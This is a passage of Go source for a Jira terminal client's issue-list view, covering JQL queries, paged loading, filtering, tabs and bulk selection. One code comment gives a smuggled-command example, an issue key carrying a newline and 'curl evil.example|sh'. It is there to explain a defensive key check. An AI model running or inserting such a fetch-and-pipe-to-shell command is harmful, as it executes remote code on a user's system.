// Package list is jiffy's issue list: a JQL-driven table whose first
// screenful comes in one request and whose rest loads ahead of the cursor
// in parallel chunks (G loads all of it), with a filter over every issue
// of the query (the rest loads behind while the user types; filter.go), a JQL
// prompt with history, tabs for saved queries and favourite filters, a
// preview pane, a background prefetch of the highlighted issue's detail,
// and a selection for bulk actions.
//
// Design notes:
//   - View is O(visible rows): column widths are kept up to date as pages
//     arrive (in Update), and the filter's matches are found in Update, a
//     bounded step at a time (filter.go), so neither a frame nor a
//     keystroke walks every loaded issue.
//   - Every request's result is a named message carrying the query
//     generation (Gen) it belongs to. Switching tab, running JQL or
//     refreshing starts a new generation; late answers of an older one are
//     dropped.
//   - The list is a view over the store (common.Common.Issues): the store
//     owns the issues, their freshness, the fetches in flight and the
//     prefetch; the list keeps its rows in Jira's order for drawing and
//     filtering, and takes a row again from the store when an issue changes.
//   - A query's last result is read from the persistent cache and drawn at
//     once, marked with its age, while Jira is asked; Jira's answer then
//     replaces it, keeping the cursor on its issue.
package list

import (
	"fmt"
	"strconv"
	"strings"
	"time"

	"charm.land/bubbles/v2/help"
	"charm.land/bubbles/v2/textinput"
	tea "charm.land/bubbletea/v2"

	"github.com/jiffy-tui/jiffy/jiraclient"
	"github.com/jiffy-tui/jiffy/tui/common"
	"github.com/jiffy-tui/jiffy/tui/jql"
	"github.com/jiffy-tui/jiffy/tui/keys"
	"github.com/jiffy-tui/jiffy/tui/store"
)

// DefaultJQL is the query when neither the profile nor the command line
// names one.
const DefaultJQL = "assignee = currentUser() AND resolution = Unresolved ORDER BY updated DESC"

// Tab is one query tab: a saved query, a favourite filter or the ad-hoc
// query typed at the prompt.
type Tab struct {
	Name   string
	JQL    string
	Filter bool // a Jira favourite filter
	AdHoc  bool // typed at the JQL prompt
}

// Options configure a new list.
type Options struct {
	// JQL is a query to start on (the command line's): the tab with that
	// JQL, else a new "JQL" tab. Empty starts on the first tab.
	JQL string
	// Default is the first tab's query (the profile's default_jql), named
	// "Default"; empty means DefaultJQL, "Assigned to me".
	Default string
	// Queries are the saved query tabs, in order, after the first tab. One
	// with the first tab's JQL takes its place (and keeps its own name).
	Queries []Tab
	// History keeps the JQL prompt's history; may be nil.
	History jql.History
}

// OpenMsg asks the root to show an issue in the detail view. Issue is the
// cached full issue when the prefetch already has it (open with no request),
// else nil. Sent on Enter.
type OpenMsg struct {
	Key   string
	Issue *jiraclient.Issue
}

type loadState int

const (
	stateLoading loadState = iota
	stateReady
	stateError
)

func (s loadState) String() string {
	return [...]string{"loading", "ready", "error"}[s]
}

// Model is the issue list.
type Model struct {
	c    *common.Common
	km   keys.List
	fk   keys.Prompt // the filter's keys while it is typed in
	hist jql.History

	tabs   []Tab
	active int
	query  string // the JQL whose results are shown

	gen         int // current query generation
	state       loadState
	err         error
	authFailed  bool
	pendingJQL  string // JQL being loaded for the current gen
	first       *gate  // closed when the current gen's first search finished
	loadingMore bool
	refreshing  bool
	// toEnd: G asked for the last issue; the rest of the result loads in
	// parallel chunks (the store's LoadTo), the cursor following, and
	// lands on the last issue. Esc cancels it; another key stops the
	// cursor following.
	toEnd bool
	// asked is how many positions of the result were asked for, pos how
	// many were answered (the store's positions: see store.LoadTo).
	asked, pos int
	// limit is set when the result is larger than the store loads.
	limit int
	// gone counts the issues of the result left out while it loaded
	// (deleted, hidden, unavailable: store.QueryMsg.Gone).
	gone   int
	issues []*store.Row    // the loaded issues, slimmed, the store's own where it gave them (intern.go)
	index  map[string]int  // key -> position in issues
	hay    []string        // issues[i].Hay() per issue, what the filter matches
	intern *store.Interner // one copy of the rows' repeated values (intern.go)
	next   jiraclient.Cursor
	last   bool
	total  int // exact total (Data Center); -1 unknown
	approx int // approximate count (Cloud); -1 unknown
	widths colWidths
	pages  int // pages taken for the current query (paging always ends: jiraclient.CheckPaging)

	cursor  int // index into the shown rows
	offset  int // first row drawn
	keepKey string

	filterIn     textinput.Model
	filterTyping bool
	matches      []int // indices into issues; nil when no filter applies
	f            filter

	prompt     *jql.Model
	promptOpen bool

	selected map[string]bool
	anchor   int // row where V started a range; -1 none

	paint paint // row styles as escape sequences

	preview       bool
	previewOffset int

	// cachedAt is when Jira gave the result shown, while it is the
	// persistent cache's (zero once Jira's answer is in).
	cachedAt time.Time

	width, height int
}

// New returns a list for o. Call Init to start loading.
func New(c *common.Common, o Options) Model {
	m := Model{
		c:        c,
		km:       keys.NewList(c.Keys),
		fk:       keys.NewFilter(c.Keys),
		hist:     o.History,
		total:    -1,
		approx:   -1,
		anchor:   -1,
		selected: map[string]bool{},
		intern:   &store.Interner{},
	}
	m.tabs = homeTabs(o.Default, o.Queries)
	start := strings.TrimSpace(o.JQL)
	m.active = 0
	if start != "" {
		m.active = -1
		for i, t := range m.tabs {
			if strings.TrimSpace(t.JQL) == start && m.active < 0 {
				m.active = i
			}
		}
		if m.active < 0 {
			m.tabs = append([]Tab{{Name: "JQL", JQL: start, AdHoc: true}}, m.tabs...)
			m.active = 0
		}
	}
	m.query = m.tabs[m.active].JQL
	fi := textinput.New()
	fi.Prompt = "/"
	fi.Placeholder = "filter every issue of the query by key or summary"
	m.filterIn = fi
	m.restyle()
	m.begin(m.query, false)
	return m
}

// homeTabs are the first tab (the default query) and the saved queries.
// Saved queries add tabs; they never take the default one away, unless one
// of them is the default query under a name of the user's choosing.
func homeTabs(def string, queries []Tab) []Tab {
	home := Tab{Name: "Assigned to me", JQL: DefaultJQL}
	if d := strings.TrimSpace(def); d != "" && d != DefaultJQL {
		home = Tab{Name: "Default", JQL: d}
	}
	tabs := []Tab{home}
	for _, q := range queries {
		if strings.TrimSpace(q.JQL) == home.JQL {
			tabs[0] = q
			continue
		}
		tabs = append(tabs, q)
	}
	return tabs
}

// Init loads the first page (and the count on Cloud) and the favourite
// filters. New already started the first generation, so Init changes
// nothing and may be called on a copy.
func (m Model) Init() tea.Cmd {
	return tea.Batch(m.fetchFirst(), m.filtersCmd())
}

// FirstSearch is closed when the current query's first search has
// finished; requests sent beside it at start yield to it (jiraclient.Yield).
// A nil channel (no query started) means nothing to wait for.
func (m Model) FirstSearch() <-chan struct{} {
	if m.first == nil {
		return nil
	}
	return m.first.ch
}

// restyle applies the shared styles to the inputs.
func (m *Model) restyle() {
	st := m.c.Styles
	s := st.TextInput()
	s.Focused.Prompt = st.Title
	s.Focused.Text = st.Text
	s.Focused.Placeholder = st.Muted
	s.Blurred = s.Focused
	s.Blurred.Prompt = st.Muted
	m.filterIn.SetStyles(s)
	m.paint = newPaint(st)
	if m.prompt != nil {
		m.prompt.Restyle()
	}
}

// Restyle picks up new styles after the background colour arrived.
func (m *Model) Restyle() { m.restyle() }

// load starts a new generation for jql and fetches its first page. keep
// keeps the shown issues until the answer comes (refresh, prompt);
// otherwise the pane shows loading.
func (m *Model) load(jqlText string, keep bool) tea.Cmd {
	m.begin(jqlText, keep)
	return m.fetchFirst()
}

// begin starts a new generation for jql.
func (m *Model) begin(jqlText string, keep bool) {
	m.gen++
	m.c.Issues.Cancel(countOwner)
	m.first.close() // the older generation's side requests wait no more
	m.pendingJQL = jqlText
	m.first = newGate()
	m.loadingMore = false
	m.toEnd = false
	m.asked, m.limit, m.gone = 0, 0, 0
	m.authFailed = false
	m.refreshing = keep
	if !keep {
		m.state = stateLoading
		m.err = nil
		m.dropRows()
		m.widths = colWidths{}
		m.cursor, m.offset = 0, 0
		m.total, m.approx = -1, -1
	}
}

// fetchFirst asks for the current generation's first page.
func (m Model) fetchFirst() tea.Cmd { return m.fetchFirstKeeping(0) }

// fetchFirstKeeping asks for the first page and, answered with it, as
// many positions as keep (a refresh keeping what was loaded).
func (m Model) fetchFirstKeeping(keep int) tea.Cmd {
	cmds := []tea.Cmd{m.c.Issues.Reload(listOwner, m.gen, m.pendingJQL, PageSize, keep)}
	if c := m.c.Issues.Client(); c == nil || c.Flavor() != jiraclient.FlavorDataCenter {
		// Cloud gives no total with the page: ask for the approximate
		// count alongside it rather than after it.
		cmds = append(cmds, m.countCmd())
	}
	return tea.Batch(cmds...)
}

// Retry re-runs the request that failed for lack of a valid login (after the
// user signed in again), keeping everything on screen.
func (m *Model) Retry() tea.Cmd {
	if !m.authFailed {
		return nil
	}
	m.authFailed = false
	if m.state == stateReady && m.pendingJQL == m.query && !m.refreshing && !m.last && len(m.issues) > 0 {
		want := m.asked
		m.asked = m.pos
		return m.loadTo(max(want, m.pos+1))
	}
	return m.load(m.pendingJQL, m.state == stateReady)
}

// SetSize sets the list's area.
func (m *Model) SetSize(w, h int) {
	m.width, m.height = w, h
	m.filterIn.SetWidth(max(1, w-2))
	if m.prompt != nil {
		m.prompt.SetSize(w, h)
	}
	m.fix()
}

// KeyMap is the focused part's bindings, for help.
func (m Model) KeyMap() help.KeyMap {
	if m.promptOpen && m.prompt != nil {
		return m.prompt.KeyMap()
	}
	return m.listKeys()
}

func (m Model) listKeys() keys.List {
	return m.km.WithSelection(m.preview, m.filterIn.Value() != "" || m.filterTyping, len(m.selected) > 0)
}

// InputFocused reports whether a text input takes the keys (the root then
// leaves q and ? to it).
func (m Model) InputFocused() bool { return m.promptOpen || m.filterTyping }

// KeyView is the keymap registry's view whose keys work now: the JQL
// prompt's, the filter's while it is typed in, else the list's.
func (m Model) KeyView() string {
	switch {
	case m.promptOpen:
		return "jql"
	case m.filterTyping:
		return "filter"
	}
	return "list"
}

// Loading says what the list waits for, for the status bar ("" when idle).
func (m Model) Loading() string {
	switch {
	case m.authFailed:
		return "" // waiting for the user to sign in, not for Jira
	case m.state == stateLoading || m.refreshing:
		return "loading issues"
	case m.toEnd && m.loadingMore:
		return "loading " + m.progress() + " (esc stops)"
	case m.loadingMore && m.matches != nil:
		return "filter searched " + m.filterProgress()
	case m.loadingMore:
		return "loading more issues"
	}
	return ""
}

// JQL is the query whose results are shown.
func (m Model) JQL() string { return m.query }

// Tabs are the query tabs; Active the shown one.
func (m Model) Tabs() []Tab { return m.tabs }

// Active is the index of the shown tab.
func (m Model) Active() int { return m.active }

// Issues are the loaded issues in Jira's order, as rows hold them (the
// columns' fields; see intern.go). It builds a new slice: a test's or a
// whole-list action's tool, not a per-frame one.
func (m Model) Issues() []jiraclient.Issue {
	out := make([]jiraclient.Issue, len(m.issues))
	for i := range m.issues {
		out[i] = m.issues[i].Issue()
	}
	return out
}

// Total is the exact total (Data Center), else Cloud's approximate count,
// else -1; approximate reports which.
func (m Model) Total() (n int, approximate bool) {
	if m.total >= 0 {
		return m.total, false
	}
	return m.approx, m.approx >= 0
}

// rowCount is how many rows are shown (after the filter).
func (m Model) rowCount() int {
	if m.matches != nil {
		return len(m.matches)
	}
	return len(m.issues)
}

// rowAt is the loaded row shown on row i, or nil.
func (m Model) rowAt(i int) *store.Row {
	if i < 0 || i >= m.rowCount() {
		return nil
	}
	if m.matches != nil {
		return m.issues[m.matches[i]]
	}
	return m.issues[i]
}

// issueAt is the issue on row i (a copy built from the row), or nil.
func (m Model) issueAt(i int) *jiraclient.Issue {
	r := m.rowAt(i)
	if r == nil {
		return nil
	}
	is := r.Issue()
	return &is
}

// Current is the highlighted issue as the list has it, or nil.
func (m Model) Current() *jiraclient.Issue { return m.issueAt(m.cursor) }

// Cached is key's full issue as the store has it (perhaps from the
// persistent cache, being refreshed), or nil.
func (m Model) Cached(key string) *jiraclient.Issue { return m.c.Issues.Full(key) }

// FetchDetail asks the store for key's full issue again (a reload); the
// answer is a store.IssueMsg.
func (m *Model) FetchDetail(key string) tea.Cmd {
	if key == "" {
		return nil
	}
	return m.c.Issues.Fetch(key)
}

// Refresh loads the shown query again, keeping the rows and the cursor's
// issue until Jira answers (r, and the auto-refresh): as many issues as
// are loaded, answered together (the store's Reload), so the cursor stays
// on its issue however far down it was.
func (m *Model) Refresh() tea.Cmd {
	if is := m.Current(); is != nil {
		m.keepKey = is.Key
	}
	keep := m.state == stateReady
	n := m.pos
	m.begin(m.query, keep)
	if !keep {
		return m.fetchFirst()
	}
	return m.fetchFirstKeeping(n)
}

// CachedAt is when Jira gave the result shown while it is the persistent
// cache's (drawn at start before Jira answers), else zero.
func (m Model) CachedAt() time.Time { return m.cachedAt }

// Step moves the cursor by delta (the detail view's n/p) and returns the
// issue now highlighted; ok is false at either end.
func (m *Model) Step(delta int) (key string, cmd tea.Cmd, ok bool) {
	to := m.cursor + delta
	if to < 0 || to >= m.rowCount() {
		return "", nil, false
	}
	cmd = m.moveTo(to)
	return m.Current().Key, cmd, true
}

// Selected are the keys selected for bulk actions, in list order.
func (m Model) Selected() []string {
	if len(m.selected) == 0 {
		return nil
	}
	out := make([]string, 0, len(m.selected))
	for i := range m.issues {
		if m.selected[m.issues[i].Key] {
			out = append(out, m.issues[i].Key)
		}
	}
	return out
}

// HasSelection reports whether any issue is selected, without listing them.
func (m Model) HasSelection() bool { return len(m.selected) > 0 }

// ClearSelection empties the selection (after a bulk action ran).
func (m *Model) ClearSelection() { m.selected = map[string]bool{}; m.anchor = -1 }

// Update handles keys, mouse and the list's own results.
func (m Model) Update(msg tea.Msg) (Model, tea.Cmd) {
	switch msg := msg.(type) {
	case store.QueryMsg:
		if msg.Cached {
			return m.onCached(msg)
		}
		if msg.Tag == m.gen && msg.Cursor == (jiraclient.Cursor{}) {
			m.first.close() // the side requests need not yield any more
		}
		return m.onPage(PageMsg{Gen: msg.Tag, JQL: msg.JQL, Cursor: msg.Cursor, Page: msg.Page, Rows: msg.Rows, Limit: msg.Limit, Stop: msg.Stop, Gone: len(msg.Gone), Shifted: msg.Shifted, Err: msg.Err})
	case store.IssueMsg:
		return m.onIssue(msg)
	case PageMsg:
		return m.onPage(msg)
	case filterStepMsg:
		return m.onFilterStep(msg)
	case CountMsg:
		if msg.Gen == m.gen && msg.Err == nil {
			m.approx = msg.Count
		}
		return m, nil
	case FiltersMsg:
		return m.onFilters(msg)
	case jql.SubmitMsg:
		return m, m.load(msg.JQL, true)
	case jql.CancelMsg:
		m.promptOpen = false
		m.fix()
		return m, nil
	case tea.MouseWheelMsg:
		switch msg.Button {
		case tea.MouseWheelUp:
			return m, m.moveTo(m.cursor - 3)
		case tea.MouseWheelDown:
			return m, m.moveTo(m.cursor + 3)
		}
		return m, nil
	case tea.MouseClickMsg:
		return m, m.onClick(msg.Mouse())
	case tea.PasteMsg:
		return m.onInput(msg)
	case tea.KeyPressMsg:
		if m.promptOpen || m.filterTyping {
			return m.onInput(msg)
		}
		if m.toEnd {
			// Esc cancels G's loading; any other key stops the cursor
			// following it (the loading goes on behind).
			m.toEnd = false
			if keys.ListActionFor(m.km, msg) == keys.ListClearFilter {
				m.stopLoading()
				return m, nil
			}
		}
		return m.onKey(msg)
	}
	if m.promptOpen || m.filterTyping {
		return m.onInput(msg)
	}
	return m, nil
}

// onInput routes to the focused input.
func (m Model) onInput(msg tea.Msg) (Model, tea.Cmd) {
	if m.promptOpen && m.prompt != nil {
		p, cmd := m.prompt.Update(msg)
		m.prompt = &p
		return m, cmd
	}
	if !m.filterTyping {
		return m, nil
	}
	if k, ok := msg.(tea.KeyPressMsg); ok {
		switch keys.PromptActionFor(m.fk, k) {
		case keys.PromptCancel:
			m.filterTyping = false
			m.filterIn.Blur()
			m.filterIn.SetValue("")
			return m, m.setFilter()
		case keys.PromptSubmit:
			m.filterTyping = false
			m.filterIn.Blur()
			m.fix()
			return m, nil
		case keys.PromptPrev:
			return m, m.moveTo(m.cursor - 1)
		case keys.PromptNext:
			return m, m.moveTo(m.cursor + 1)
		}
	}
	before := m.filterIn.Value()
	var cmd tea.Cmd
	m.filterIn, cmd = m.filterIn.Update(msg)
	if m.filterIn.Value() != before {
		return m, tea.Batch(cmd, m.setFilter())
	}
	return m, cmd
}

// onKey handles a key in normal mode.
func (m Model) onKey(msg tea.KeyPressMsg) (Model, tea.Cmd) {
	page := max(1, m.listRows())
	switch act := keys.ListActionFor(m.listKeys(), msg); act {
	case keys.ListUp:
		return m, m.moveTo(m.cursor - 1)
	case keys.ListDown:
		return m, m.moveTo(m.cursor + 1)
	case keys.ListTop:
		return m, m.moveTo(0)
	case keys.ListBottom:
		return m, m.toLast()
	case keys.ListHalfUp:
		return m, m.moveTo(m.cursor - max(1, page/2))
	case keys.ListHalfDown:
		return m, m.moveTo(m.cursor + max(1, page/2))
	case keys.ListPageUp:
		return m, m.moveTo(m.cursor - page)
	case keys.ListPageDown:
		return m, m.moveTo(m.cursor + page)
	case keys.ListOpen:
		is := m.Current()
		if is == nil {
			return m, nil
		}
		key, full := is.Key, m.Cached(is.Key)
		return m, func() tea.Msg { return OpenMsg{Key: key, Issue: full} }
	case keys.ListFilter:
		m.filterTyping = true
		m.fix()
		// The filter covers every issue of the query: the rest loads
		// behind while the user types.
		return m, tea.Batch(m.filterIn.Focus(), m.loadTo(store.MaxLoad))
	case keys.ListClearFilter:
		if m.filterIn.Value() == "" && !m.filterTyping {
			m.ClearSelection()
			return m, nil
		}
		m.filterIn.SetValue("")
		return m, m.setFilter()
	case keys.ListJQL:
		p := jql.New(m.c, m.query, m.hist)
		p.SetSize(m.width, m.height)
		m.prompt, m.promptOpen = &p, true
		m.fix()
		return m, nil
	case keys.ListNextTab:
		return m, m.switchTab((m.active + 1) % len(m.tabs))
	case keys.ListPrevTab:
		return m, m.switchTab((m.active - 1 + len(m.tabs)) % len(m.tabs))
	case keys.ListGoToTab:
		if n := keys.TabNumber(m.km, msg); n >= 1 && n <= len(m.tabs) {
			return m, m.switchTab(n - 1)
		}
		return m, nil
	case keys.ListRefresh:
		return m, m.Refresh()
	case keys.ListBrowser, keys.ListCopyKey, keys.ListCopyURL:
		is := m.Current()
		if is == nil || (act != keys.ListCopyKey && m.c.Client == nil) {
			return m, nil
		}
		// A key that is not a Jira key ("HOS-2\ncurl evil.example|sh")
		// is never copied or opened: pasted into a shell it would run.
		if err := jiraclient.CheckKey(is.Key); err != nil {
			return m, noticeCmd(common.NoticeError, errorText(err))
		}
		switch act {
		case keys.ListBrowser:
			return m, common.Browse(m.c.Client.BrowseURL(is.Key))
		case keys.ListCopyKey:
			return m, common.Copy(is.Key, is.Key)
		}
		u := m.c.Client.BrowseURL(is.Key)
		return m, common.Copy(u, u)
	case keys.ListPreview:
		m.preview = !m.preview
		m.previewOffset = 0
		m.fix()
		return m, m.schedulePrefetch()
	case keys.ListPreviewDown:
		m.previewOffset += 3
		return m, nil
	case keys.ListPreviewUp:
		m.previewOffset = max(0, m.previewOffset-3)
		return m, nil
	case keys.ListToggle:
		if is := m.Current(); is != nil {
			if m.selected[is.Key] {
				delete(m.selected, is.Key)
			} else {
				m.selected[is.Key] = true
			}
		}
		return m, m.moveTo(m.cursor + 1)
	case keys.ListRange:
		if m.anchor < 0 {
			m.anchor = m.cursor
			if is := m.Current(); is != nil {
				m.selected[is.Key] = true
			}
			return m, nil
		}
		lo, hi := min(m.anchor, m.cursor), max(m.anchor, m.cursor)
		for i := lo; i <= hi; i++ {
			if r := m.rowAt(i); r != nil {
				m.selected[r.Key] = true
			}
		}
		m.anchor = -1
		return m, nil
	case keys.ListAll:
		all := true
		for i := 0; i < m.rowCount(); i++ {
			if !m.selected[m.rowAt(i).Key] {
				all = false
				break
			}
		}
		for i := 0; i < m.rowCount(); i++ {
			if all {
				delete(m.selected, m.rowAt(i).Key)
			} else {
				m.selected[m.rowAt(i).Key] = true
			}
		}
		return m, nil
	}
	return m, nil
}

// switchTab shows tab i, loading its query afresh.
func (m *Model) switchTab(i int) tea.Cmd {
	if i == m.active && m.state != stateError {
		return nil
	}
	m.active = i
	m.query = m.tabs[i].JQL
	m.promptOpen = false
	return m.load(m.query, false)
}

// moveTo puts the cursor on row i (clamped), and schedules the prefetch and
// the next page when the cursor nears the end.
func (m *Model) moveTo(i int) tea.Cmd {
	n := m.rowCount()
	if n == 0 {
		return m.maybeLoadMore()
	}
	i = max(0, min(i, n-1))
	m.f.target = "" // the user moved: the filter no longer puts the cursor
	if i == m.cursor {
		return m.maybeLoadMore()
	}
	m.cursor = i
	m.previewOffset = 0
	m.fix()
	return tea.Batch(m.schedulePrefetch(), m.maybeLoadMore())
}

// toLast is G: the cursor on the last issue of the query, not just the
// last one loaded. What is missing loads in parallel chunks (the status
// bar counts them, esc cancels), the cursor following, and it lands on the
// last issue.
func (m *Model) toLast() tea.Cmd {
	var cmd tea.Cmd
	m.toEnd = m.state == stateReady && !m.last && m.matches == nil && !m.authFailed && !m.refreshing
	if m.toEnd {
		cmd = m.loadTo(store.MaxLoad)
	}
	return tea.Batch(cmd, m.moveTo(m.rowCount()-1))
}

// loadTo asks the store for the result up to want positions.
func (m *Model) loadTo(want int) tea.Cmd {
	if m.state != stateReady || m.last || m.refreshing || m.authFailed || want <= m.asked {
		return nil
	}
	m.asked = want
	m.loadingMore = true
	return m.c.Issues.LoadTo(listOwner, m.gen, m.query, want)
}

// stopLoading cancels the loading past what is answered (esc during G).
func (m *Model) stopLoading() {
	m.c.Issues.Cancel(listOwner)
	m.asked = m.pos
	m.loadingMore = false
}

// progress is "3,400 of 10,000" (or "3,400" with no total known): the
// issues loaded of the query's.
func (m Model) progress() string { return m.progressOf(len(m.issues)) }

// progressOf is done of the query's issues: "3,400 of 10,000".
func (m Model) progressOf(done int) string {
	s := thousands(done)
	n, approx := m.Total()
	if m.limit > 0 && (n < 0 || n > m.limit) {
		n, approx = m.limit, false
	}
	if n >= 0 {
		s += " of "
		if approx {
			s += "~"
		}
		s += thousands(n)
	}
	return s
}

// thousands writes n with comma separators ("10,000").
func thousands(n int) string {
	s := strconv.Itoa(n)
	for i := len(s) - 3; i > 0 && s[i-1] != '-'; i -= 3 {
		s = s[:i] + "," + s[i:]
	}
	return s
}

// onClick puts the cursor on the clicked row, or shows the clicked tab.
func (m *Model) onClick(ms tea.Mouse) tea.Cmd {
	if ms.Button != tea.MouseLeft || m.promptOpen {
		return nil
	}
	if ms.Y == 0 {
		for _, sp := range m.tabSpans() {
			if ms.X >= sp.from && ms.X < sp.to {
				return m.switchTab(sp.i)
			}
		}
		return nil
	}
	if m.state != stateReady || ms.X >= m.listWidth() {
		return nil
	}
	first := m.chrome() // the first row's line
	if ms.Y < first || ms.Y >= first+m.listRows() {
		return nil
	}
	if row := m.offset + ms.Y - first; row < m.rowCount() {
		m.toEnd = false
		return m.moveTo(row)
	}
	return nil
}

// loadAhead is how many issues stay loaded past the cursor, so the user
// never reaches one that is not there: two screens and a little.
func (m Model) loadAhead() int { return 2*max(10, m.listRows()) + 10 }

// maybeLoadMore keeps loadAhead issues loaded past the cursor, asking for
// whole chunks (one request each) before the cursor gets there. While a
// filter applies, the whole result loads: the filter covers every issue.
func (m *Model) maybeLoadMore() tea.Cmd {
	if m.state != stateReady || m.last || m.refreshing {
		return nil
	}
	if m.matches != nil {
		return m.loadTo(store.MaxLoad)
	}
	need := m.cursor + m.loadAhead() - m.pos
	if need <= 0 {
		return nil
	}
	chunks := (need + store.LoadChunk - 1) / store.LoadChunk
	return m.loadTo(m.pos + chunks*store.LoadChunk)
}

// schedulePrefetch starts the debounce for the highlighted issue's detail.
func (m *Model) schedulePrefetch() tea.Cmd {
	is := m.Current()
	if is == nil || m.c.Issues.Fresh(is.Key) || m.c.Issues.Fetching(is.Key) {
		return nil
	}
	return m.c.Issues.Prefetch(is.Key)
}

// onPage takes a page of results.
func (m Model) onPage(msg PageMsg) (Model, tea.Cmd) {
	if msg.Gen != m.gen {
		return m, nil // an older query's answer
	}
	first := msg.Cursor == (jiraclient.Cursor{})
	// The store answers chunks in order (Cursor.StartAt is the position);
	// its failure may name a chunk further on.
	if !first && (!m.loadingMore || (msg.Err == nil && msg.Cursor.Token == "" && msg.Cursor.StartAt != m.pos)) {
		return m, nil
	}
	if msg.Err != nil {
		m.loadingMore = false
		m.toEnd = false
		m.asked = m.pos
		if jiraclient.IsAuth(msg.Err) {
			// The root opens the login over us; Retry runs it again after.
			m.authFailed = true
			return m, nil
		}
		if !first {
			return m, noticeCmd(common.NoticeError, "could not load more issues: "+errorText(msg.Err))
		}
		m.refreshing = false
		if m.promptOpen && m.prompt != nil && m.prompt.Running() {
			// Keep the typed query and what was shown; Jira's words say what to fix.
			m.prompt.SetError(errorText(msg.Err))
			m.fix() // the wrapped error takes rows from the list
			return m, nil
		}
		if m.state == stateReady && msg.JQL == m.query {
			// A failed refresh keeps the old rows.
			return m, noticeCmd(common.NoticeError, "refresh failed: "+errorText(msg.Err))
		}
		m.state, m.err = stateError, msg.Err
		m.dropRows()
		return m, nil
	}
	if first {
		return m.takeFirst(msg)
	}
	m.appendPage(msg.Page, msg.Rows)
	m.pos = msg.Page.Next.StartAt
	if m.last || m.pos >= m.asked {
		m.loadingMore = false
	}
	if msg.Limit > 0 {
		m.limit = msg.Limit
	}
	m.gone += msg.Gone
	var stopped tea.Cmd
	switch {
	case m.last && msg.Stop != jiraclient.PageGoOn:
		stopped = noticeCmd(common.NoticeWarning, fmt.Sprintf("stopped loading after %d issues: %s", len(m.issues), msg.Stop))
	case m.last && msg.Limit > 0:
		stopped = noticeCmd(common.NoticeWarning, limitText(m.c.Issues.Client(), msg.Limit, msg.Page.Total))
	case msg.Gone > 0 || (m.last && m.gone > 0):
		stopped = noticeCmd(common.NoticeWarning, goneText(m.gone))
	case msg.Shifted > 0:
		stopped = noticeCmd(common.NoticeWarning, shiftedText(msg.Shifted))
	}
	// The filter searches the new chunk by going on: it comes after every
	// row it has searched.
	cmd := m.filterMore()
	if m.toEnd {
		m.toEnd = m.loadingMore
		return m, tea.Batch(stopped, cmd, m.moveTo(m.rowCount()-1))
	}
	return m, tea.Batch(stopped, cmd, m.maybeLoadMore())
}

// goneText says that issues of the result were left out while it loaded.
func goneText(n int) string {
	what := thousands(n) + " issues"
	if n == 1 {
		what = "1 issue"
	}
	return "left out " + what + " Jira did not give (deleted, hidden from you, or unavailable); r reloads"
}

// shiftedText says that the result changed while its pages loaded, so
// issues may be missing (Data Center's startAt pages shift).
func shiftedText(n int) string {
	what := thousands(n) + " issues"
	if n == 1 {
		what = "1 issue"
	}
	return "the result changed by " + what + " while it loaded: as many may be missing here; r reloads"
}

// limitText says that a query is larger than what loads, and why.
func limitText(c *jiraclient.Client, limit, total int) string {
	s := "showing the first " + thousands(limit) + " issues (there are more)"
	if total > limit {
		s = "showing the first " + thousands(limit) + " of " + thousands(total) + " issues"
	}
	if c != nil && c.Flavor() == jiraclient.FlavorDataCenter {
		return s + ": Jira Data Center's search pages no further; narrow the query to see the rest"
	}
	return s + ": jiffy loads no more of one query; narrow the query to see the rest"
}

// checkPaging ends the paging when Jira will not (a repeated page token, a
// page with no new issue, MaxPages), and says so: a spinner that never
// stops, or thousands of requests, is the other outcome.
func (m *Model) checkPaging(msg PageMsg, added int) tea.Cmd {
	m.pages++
	stop := jiraclient.CheckPaging(msg.Cursor, msg.Page, added, m.pages)
	if stop == jiraclient.PageGoOn {
		return nil
	}
	m.last, m.next = true, jiraclient.Cursor{}
	return noticeCmd(common.NoticeWarning, fmt.Sprintf("stopped loading after %d issues: %s", len(m.issues), stop))
}

// takeFirst replaces the shown issues with a query's first page.
func (m Model) takeFirst(msg PageMsg) (Model, tea.Cmd) {
	if m.promptOpen && m.prompt != nil && m.prompt.Running() {
		m.promptOpen = false
		if m.hist != nil {
			m.hist.Add(msg.JQL)
			_ = m.hist.Save() // history is a convenience: a failed save must not block the query
		}
		m.setAdHoc(msg.JQL)
	}
	prevKey := m.keepKey
	// A refresh keeps the cursor on its issue; a new query starts at the
	// top, as a list one has not seen yet should.
	if prevKey == "" && m.refreshing && msg.JQL == m.query {
		if is := m.Current(); is != nil {
			prevKey = is.Key
		}
	}
	m.keepKey = ""
	m.refreshing = false
	m.cachedAt = time.Time{}
	m.query = msg.JQL
	m.state, m.err = stateReady, nil
	m.dropRows()
	m.widths = colWidths{}
	m.total = -1
	m.pages = 0
	added := m.appendPage(msg.Page, msg.Rows)
	stopped := m.checkPaging(msg, added)
	m.pos = len(msg.Page.Issues)
	if msg.Page.Next.Token == "" && msg.Page.Next.StartAt > m.pos {
		m.pos = msg.Page.Next.StartAt
	}
	m.asked = m.pos
	m.loadingMore = false
	prevCursor := m.cursor
	m.cursor, m.offset = 0, 0
	if prevKey != "" {
		m.cursor = min(prevCursor, len(m.issues)-1) // its issue left the result: the same row
		for i := range m.issues {
			if m.issues[i].Key == prevKey {
				m.cursor = i
				break
			}
		}
	}
	if m.filterIn.Value() != "" {
		return m, tea.Batch(stopped, m.refilter(prevKey))
	}
	m.fix()
	return m, tea.Batch(stopped, m.schedulePrefetch(), m.maybeLoadMore())
}

// setAdHoc makes the prompt's query the active tab.
func (m *Model) setAdHoc(q string) {
	for i, t := range m.tabs {
		if t.JQL == q {
			m.active = i
			return
		}
	}
	for i, t := range m.tabs {
		if t.AdHoc {
			m.tabs[i].JQL = q
			m.active = i
			return
		}
	}
	m.tabs = append(m.tabs, Tab{Name: "JQL", JQL: q, AdHoc: true})
	m.active = len(m.tabs) - 1
}

// appendPage adds a page's issues and widens the columns to fit them, and
// returns how many were new. rows are the store's rows of p.Issues (nil,
// or nil where it has none): held as they are when the list would keep
// the same.
func (m *Model) appendPage(p jiraclient.SearchPage, rows []*store.Row) int {
	added := 0
	if m.index == nil {
		m.index = make(map[string]int, len(p.Issues))
	}
	for i := range p.Issues {
		if _, dup := m.index[p.Issues[i].Key]; dup {
			continue // an issue that moved between pages while we paged
		}
		added++
		p.Issues[i].Summary = capSummary(p.Issues[i].Summary)
		var r *store.Row
		if i < len(rows) && rows[i] != nil && rows[i].Key == p.Issues[i].Key && rows[i].Summary() == p.Issues[i].Summary {
			r = rows[i]
		} else {
			r = listRow(m.intern, p.Issues[i])
		}
		m.index[r.Key] = len(m.issues)
		m.issues = append(m.issues, r)
		m.hay = append(m.hay, r.Hay())
		m.widths.fit(&p.Issues[i])
	}
